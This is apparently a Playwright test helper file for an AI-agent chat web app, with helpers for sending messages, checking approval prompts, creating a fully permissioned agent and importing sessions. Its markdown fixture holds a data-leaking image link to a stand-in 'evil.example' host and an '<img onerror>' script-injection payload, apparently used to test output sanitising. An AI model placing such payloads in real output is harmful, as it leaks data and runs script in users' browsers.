"""Helpers for tests that use the chat."""

from __future__ import annotations

import re

from playwright.sync_api import Locator, Page, expect

MARKDOWN = """say # Report

Some **bold** words, `code` and [a link](https://example.com/x).

```python
print("<b>")
```

![pixel](https://evil.example/?leak=1) <img src=x onerror="window.broken=1">

| a | b |
|---|--:|
| 1 | 2 |
"""
HIRE = """async (token) => {
    const headers = {"Content-Type": "application/json", "X-CSRFToken": token};
    const ask = async (method, path, body) => (await fetch(
        `/api/v1/agents/${path}`, {method, headers, body: JSON.stringify(body)})).json();
    const {id} = await ask("POST", "", {name: "Boss", provider: "demo", model: "demo"});
    await ask("PUT", `${id}/policy/`, {profile: "full"});
}"""
IMPORT = """async ([count, token]) => {
    const agents = await (await fetch("/api/v1/agents/")).json();
    const lines = Array.from({length: count}, (_, n) => JSON.stringify({
        type: "agent.message", payload: {text: `Line number ${n + 1}.`}}));
    const answer = await fetch(`/api/v1/sessions/import/?agent=${agents.results[0].id}`, {
        method: "POST", body: lines.join("\\n"),
        headers: {"Content-Type": "application/x-ndjson", "X-CSRFToken": token}});
    return (await answer.json()).id;
}"""


def begin(page: Page, text: str, agent: str = "Coder") -> Page:
    """Send the first message to an agent."""
    page.locator(".card-name", has_text=agent).click()
    expect(page.get_by_role("radio", name=agent)).to_be_checked()
    page.get_by_role("textbox", name="Message").fill(text)
    page.get_by_role("button", name="Send", exact=True).click()
    expect(page).to_have_url(re.compile(r"/chat/[0-9a-f-]{36}/"))
    return page


def say(page: Page, text: str, on_busy: str = "") -> None:
    page.get_by_role("textbox", name=re.compile("^Message")).fill(text)
    if on_busy:
        page.get_by_role("combobox", name="When to send").select_option(on_busy)
    page.get_by_role("button", name="Send", exact=True).click()


def answers(page: Page) -> Locator:
    return page.locator(".line.is-agent .prose")


def bubbles(page: Page) -> Locator:
    return page.locator(".bubble")


def approval(page: Page) -> Locator:
    return page.get_by_role("region", name="Run a command?")


def waiting(page: Page) -> Locator:
    return page.locator(".queue-row")


def rests(page: Page) -> None:
    expect(page.locator("[data-chat-status]")).to_have_text("Idle")


def counted(number: int) -> str:
    return " ".join(str(one) for one in range(1, number + 1))


def reload_until(page: Page, wanted: Locator) -> None:
    """Reload the page until the element is there, as people without JavaScript do."""
    for _ in range(100):
        if wanted.count():
            return
        page.wait_for_timeout(200)
        page.reload()
    raise AssertionError("The element did not appear.")


def token_of(page: Page) -> str | None:
    return page.locator("[name=csrfmiddlewaretoken]").first.get_attribute("value")


def hire_boss(page: Page) -> Page:
    """Create an agent that may use every tool, including sub-agents."""
    page.evaluate(HIRE, token_of(page))
    page.reload()
    return page


def import_lines(page: Page, count: int) -> str:
    """Import a session with this many messages and return its id."""
    session_id: str = page.evaluate(IMPORT, [count, token_of(page)])
    return session_id
